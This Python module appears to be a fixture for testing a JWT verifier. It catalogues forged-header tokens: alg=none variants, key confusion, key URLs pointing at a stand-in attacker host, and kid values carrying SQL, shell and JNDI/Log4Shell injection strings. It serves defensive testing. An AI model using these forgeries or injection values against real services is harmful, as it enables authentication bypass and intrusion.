"""Tokens whose payload is genuine and whose header is not, nearly all signed with the real key."""

from collections.abc import Callable
from typing import Final

from unit.adapters.jwt.forger import Genuine, base64url, dumped, signature, without

Forge = Callable[[Genuine], str]

_PUBLIC_KEY: Final = (
    "-----BEGIN PUBLIC KEY-----\n"
    "MCowBQYDK2VwAyEA11qYAYKxCrfVS/7TyWQHOg7hcvPapiMlrwIaaPcHURo=\n"
    "-----END PUBLIC KEY-----\n"
)  # RFC 8037, A.2, as RFC 8410 writes it
_MINE: Final = b"a key that the forger has brought along"
_MY_JWK: Final = {"kty": "oct", "k": base64url(_MINE)}
_ELSEWHERE: Final = "https://attacker.example/keys.json"


def _unsecured(algorithm: object, mac: str = "") -> Forge:
    return lambda genuine: (
        f"{base64url(dumped(genuine.header | {'alg': algorithm}))}.{genuine.segments[1]}.{mac}"
    )


def _members(**members: object) -> Forge:
    return lambda genuine: genuine.with_members(**members)


def _mine(**members: object) -> Forge:
    return lambda genuine: genuine.with_header(genuine.header | members, _MINE)


def _lacking(name: str) -> Forge:
    return lambda genuine: genuine.with_header(without(genuine.header, name))


def _raw(change: Callable[[bytes], bytes]) -> Forge:
    return lambda genuine: genuine.with_header(change(dumped(genuine.header)))


def _detached(genuine: Genuine) -> str:
    header = base64url(dumped(genuine.header | {"b64": False, "crit": ["b64"]}))
    return f"{header}..{signature(f'{header}.{dumped(genuine.claims).decode()}')}"


NONE: Final[dict[str, Forge]] = {
    f"none/{algorithm!r}": _unsecured(algorithm)
    for algorithm in ("none", "None", "NONE", "nOnE", " none", "none\0", "", None, [], ["none"])
} | {
    "none/no-algorithm": lambda g: (
        f"{base64url(dumped(without(g.header, 'alg')))}.{g.segments[1]}."
    ),
    "none/old-signature": lambda g: _unsecured("none", g.segments[2])(g),
    "none/signed": _members(alg="none"),
    "none/two-segments": lambda g: _unsecured("none")(g).rstrip("."),
    "none/genuine-header": lambda g: f"{g.segments[0]}.{g.segments[1]}.",
}

ALGORITHM: Final[dict[str, Forge]] = {
    f"alg/{algorithm!r}": _members(alg=algorithm)
    for algorithm in (
        *("HS384", "HS512", "RS256", "PS256", "ES256", "ES256K", "EdDSA", "Ed25519", "dir"),
        *("hs256", "Hs256", "HS256 ", " HS256", "HS256\0", "HS-256", "HMAC", "SHA256"),
        *("\uff28S256", None, True, 256, ["HS256"], {"HS256": 1}),
    )
} | {
    "alg/missing": _lacking("alg"),
    "alg/HS384-for-real": lambda g: g.with_header(g.header | {"alg": "HS384"}, digest="sha384"),
    "alg/HS512-for-real": lambda g: g.with_header(g.header | {"alg": "HS512"}, digest="sha512"),
    "alg/HS512-undeclared": lambda g: g.with_header(g.header, digest="sha512"),
}

KEY_CONFUSION: Final[dict[str, Forge]] = {
    "key-confusion/empty": lambda g: g.with_header(g.header, b""),
    "key-confusion/foreign": lambda g: g.with_header(g.header, _MINE),
    "key-confusion/key-id": lambda g: g.with_header(g.header, g.header["kid"].encode()),
    "key-confusion/public-key": lambda g: g.with_header(g.header, _PUBLIC_KEY.encode()),
    "key-confusion/public-key-declared": lambda g: g.with_header(
        g.header | {"alg": "RS256"}, _PUBLIC_KEY.encode()
    ),
    "key-confusion/jwk": lambda g: g.with_header(g.header, dumped(_MY_JWK)),
    "key-confusion/header": lambda g: g.with_header(g.header, g.segments[0].encode()),
}

TYPE: Final[dict[str, Forge]] = {
    f"typ/{typ!r}": _members(typ=typ)
    for typ in (
        *("JWT", "jwt", "AT+JWT", "at+JWT", "at+jwt ", "application/at+jwt", "rt+jwt", "JOSE"),
        *("id+jwt", "logout+jwt", "dpop+jwt", "secevent+jwt", "", None, 1, ["at+jwt"]),
    )
} | {"typ/missing": _lacking("typ")}

KEY_ID: Final[dict[str, Forge]] = {
    f"kid/{kid!r}": _members(kid=kid)
    for kid in (
        *("unknown", "", "../../../../dev/null", "/dev/null", "' OR 1=1 --", "| id", "\0"),
        *("http://attacker.example/", "${jndi:ldap://attacker.example}", "A" * 4000),
        *(None, 0, True, [], ["kid"], {"kid": "kid"}),
    )
} | {
    "kid/missing": _lacking("kid"),
    "kid/padded": lambda g: g.with_members(kid=g.header["kid"] + "="),
    "kid/upper-case": lambda g: g.with_members(kid=g.header["kid"].swapcase()),
}

BROUGHT_KEYS: Final[dict[str, Forge]] = {
    f"{name}/{signer}": make(**{name: value})
    for name, value in {
        "jwk": _MY_JWK,
        "jku": _ELSEWHERE,
        "x5u": _ELSEWHERE,
        "x5c": ["MAo="],
        "x5t": "AAAA",
        "x5t#S256": "AAAA",
    }.items()
    for signer, make in {"own-key": _mine, "real-key": _members}.items()
}

_CRITICAL: Final[list[object]] = [
    *([], ["exp"], ["alg"], ["b64"], ["unknown"], [1]),
    *("exp", None, True, {}),
]
EXTENSIONS: Final[dict[str, Forge]] = {
    f"crit/{crit!r}": _members(crit=crit) for crit in _CRITICAL
} | {
    "crit/declared-extension": _members(crit=["exp"], exp=1),
    "b64-false/encoded": _members(b64=False),
    "b64-false/critical": _members(b64=False, crit=["b64"]),
    "b64-false/detached": _detached,
    "b64-true": _members(b64=True),
    "zip/DEF": _members(zip="DEF"),
    "cty/JWT": _members(cty="JWT"),
    "nonce": _members(nonce="n"),
    "unknown-member": _members(x=1),
}

JSON: Final[dict[str, Forge]] = {
    "header-json/blank-between": _raw(lambda raw: raw.replace(b":", b": ")),
    "header-json/blank-before": _raw(lambda raw: b" " + raw),
    "header-json/line-after": _raw(lambda raw: raw + b"\n"),
    "header-json/other-order": lambda g: g.with_header(dict(reversed(g.header.items()))),
    "header-json/escaped": _raw(lambda raw: raw.replace(b"alg", b"\\u0061lg")),
    "header-json/twice-alg": _raw(lambda raw: b'{"alg":"none",' + raw[1:]),
    "header-json/twice-kid": _raw(lambda raw: raw[:-1] + b',"kid":"other"}'),
    "header-json/twice": _raw(lambda raw: raw + raw),
    "header-json/byte-order-mark": _raw(lambda raw: b"\xef\xbb\xbf" + raw),
    "header-json/utf-16": _raw(lambda raw: raw.decode().encode("utf-16")),
    "header-json/utf-32": _raw(lambda raw: raw.decode().encode("utf-32")),
    "header-json/not-utf-8": _raw(lambda raw: raw[:-1] + b',"x":"\xff"}'),
    "header-json/nan": _raw(lambda raw: raw[:-1] + b',"x":NaN}'),
    "header-json/comment": _raw(lambda raw: raw + b"//"),
    "header-json/nested": _raw(lambda raw: raw[:-1] + b',"x":' + b"[" * 2500 + b"]" * 2500 + b"}"),
    "header-json/empty": _raw(lambda _: b""),
    "header-json/cut": _raw(lambda raw: raw[:-1]),
    "header-json/array": _raw(lambda raw: b"[" + raw + b"]"),
    "header-json/string": lambda g: g.with_header(dumped(dumped(g.header).decode())),
    "header-json/null": _raw(lambda _: b"null"),
    "header-json/number": _raw(lambda _: b"1"),
}

HEADERS: Final = NONE | ALGORITHM | KEY_CONFUSION | TYPE | KEY_ID | BROUGHT_KEYS | EXTENSIONS | JSON
